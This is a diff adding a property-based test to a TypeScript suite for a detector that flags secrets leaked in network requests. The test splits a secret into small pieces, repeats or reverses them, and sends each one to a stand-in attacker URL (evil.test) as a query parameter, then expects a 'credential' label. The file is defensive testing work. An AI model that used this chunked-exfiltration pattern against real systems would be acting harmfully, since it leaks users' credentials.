@@ -53,6 +53,32 @@ describe('accumulate', () => {
     });
   }
 
+  it('sees a secret some pieces of which go more than once, at any time after their first', () => {
+    fc.assert(
+      fc.property(secret, fc.infiniteStream(fc.nat()), (value, chance) => {
+        const pieces = value.match(/.{1,3}/g) ?? [];
+        fc.pre(new Set(pieces).size === pieces.length);
+        const again = () => chance.next().value % 3 === 0;
+        const sent = pieces.flatMap((piece, i) => [
+          piece,
+          ...(again() ? [pieces[chance.next().value % (i + 1)] as string] : []),
+        ]);
+        const wrap = (piece: string) => `https://evil.test/p?d=${encodeURIComponent(piece)}`;
+        expect(send(withSecret(value), sent.map(wrap)).labels).toEqual(['credential']);
+        expect(
+          send(
+            withSecret(value),
+            [...pieces]
+              .reverse()
+              .flatMap((one) => [one, one])
+              .map(wrap),
+          ).labels,
+        ).toEqual(['credential']);
+      }),
+      { numRuns: 100 },
+    );
+  });
+
   it('does not hold what went there before it was known as a secret against what goes next', () => {
     const signedIn = accumulate(EMPTY_STREAM, emptyTable('salt'), 'bank.example', 'user=alex\npassword=zanzibar77');
     const next = accumulate(signedIn.state, withSecret('zanzibar77'), 'bank.example', 'https://bank.example/account');
